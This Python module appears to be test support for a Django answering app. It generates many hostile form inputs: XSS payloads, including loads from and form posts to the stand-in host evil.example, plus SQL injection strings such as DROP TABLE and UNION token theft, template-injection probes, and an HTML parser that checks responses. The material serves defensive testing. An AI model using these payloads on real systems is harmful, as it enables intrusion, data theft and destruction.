"""What people write who do not want to answer: put together from parts, so that there are many of each."""

from html.parser import HTMLParser
from itertools import product
from typing import Any

CLOSERS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</label></fieldset></form>",
    "-->",
    "]]>",
    "</script>",
    "&quot;>",
    "\u2028",
    "%22%3E",
    '\\"',
    "<!--",
    "</option></select>",
    '" autofocus x="',
)
BODIES = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert`1`//",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='javascript:alert(1)'>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=https://evil.example><input name=key>",
    "<button form=answers formaction=https://evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    " onfocus=alert(1) autofocus tabindex=0 x=",
    " style=position:fixed;inset:0 x=",
    "<template><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "\u0000<script>alert(1)</script>".replace("\u0000", "\u0001"),
    "＜script＞alert(1)＜/script＞",
    "<input type=hidden name=key value=x>",
)
MARKUP = tuple(closer + body for closer, body in product(CLOSERS, BODIES))
SQL = (
    "'",
    '"',
    "' OR '1'='1",
    "'; DROP TABLE answering_response; --",
    "1); DELETE FROM answering_link; --",
    "' UNION SELECT token FROM answering_link --",
    "%' AND 1=(SELECT count(*) FROM accounts_user) AND '%'='",
    "\\'; SELECT pg_sleep(5); --",
    "1 AND randomblob(1000000000)",
    "${jndi:ldap://x}",
    "%s%s%n",
    "%(workspace)s",
)
TEMPLATES = (
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{{ 7|add:7 }}",
    "{company}",
    "{first_name.__class__}",
    "{0}",
    "{}",
    "{answer.why}",
    "{answer.score.__class__}",
    "{{company}}",
    "${company}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{company!r:>99999999}",
)


class Outline(HTMLParser):
    """The elements of a page with the names of their attributes, and all texts and values in it."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.said: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _value in attrs)))
        self.said += [value for _name, value in attrs if value]

    def handle_data(self, data: str) -> None:
        self.said.append(data)

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", (data,)))


def outline(response: Any) -> Outline:
    """The outline of what came."""
    return Outline(response.content.decode())
